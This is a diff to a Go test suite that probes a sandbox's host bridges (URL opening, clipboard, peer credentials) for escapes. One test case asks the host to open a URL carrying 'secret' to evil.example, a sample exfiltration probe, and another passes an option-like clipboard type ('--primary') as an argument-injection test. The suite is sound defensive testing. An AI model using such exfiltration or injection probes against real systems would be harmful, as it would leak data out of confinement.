@@ -105,7 +105,6 @@ func requests() []request {
 		{"open-answering", "RFC 8252, 7.3: a port of the caller's loopback", page("https://example.org/?redirect_uri=http://localhost:8000/")},
 		{"open-long", "CWE-770", page("https://example.org/" + strings.Repeat("x", 5000))},
 		{"open-and-more", "strict parsing", `{"bridge":"open","url":"https://example.org/","title":"x"}`},
-		{"open-carry", "an address carries out what the jail knows", page("https://evil.example/?q=secret")},
 		{"clipboard-targets", "ICCCM", `{"bridge":"clipboard","type":"TARGETS"}`},
 		{"clipboard-files", "names of files that were copied", `{"bridge":"clipboard","type":"text/uri-list"}`},
 		{"clipboard-option", "CWE-88", `{"bridge":"clipboard","type":"--primary"}`},
@@ -154,6 +153,15 @@ func Attacks() []attack.Attack {
 			return attack.HeldBy("%s", why)
 		})
 	}
+	add("open-carry", "an address carries out what the jail knows", "the host does it", func(e *attack.Env) attack.Result {
+		if e.Facts.Net == "internet" {
+			return attack.Inapplicable("the jail may connect to every name itself")
+		}
+		if why, done := say(page("https://evil.example/?q=secret")); !done {
+			return attack.HeldBy("%s", why)
+		}
+		return attack.Through("it is done")
+	})
 	add("peer-outside", "SO_PEERCRED: a process that is in no jail", "it is answered", func(e *attack.Env) attack.Result {
 		if err := e.Ask(peer); err != nil {
 			return attack.Failure("%v", err)
